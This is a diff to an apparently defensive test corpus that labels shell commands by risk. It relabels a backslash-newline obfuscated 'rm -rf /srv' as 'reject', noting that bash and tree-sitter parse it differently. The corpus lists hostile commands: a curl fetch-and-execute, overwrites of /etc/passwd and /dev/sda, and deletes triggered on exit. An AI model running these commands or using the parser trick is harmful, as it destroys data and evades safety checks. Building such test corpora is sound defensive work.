@@ -100,7 +100,8 @@ export const ADVERSARIAL_CORPUS: readonly (readonly [command: string, label: Ris
   ["sh <(curl -s http://x)", "reject"],
   ["> /etc/passwd", "destructive"],
   ["exec 3>/dev/sda", "destructive"],
-  ["r\\\nm -rf /srv", "destructive"],
+  // tree-sitter-bash splits `r\<newline>m` into two words, bash joins it into `rm`: the parsers disagree.
+  ["r\\\nm -rf /srv", "reject"],
   ["tar -cf /dev/sda /etc", "destructive"],
   ["trap 'rm -rf /srv' EXIT", "destructive"],
   ["at now <<< 'reboot'", "destructive"],
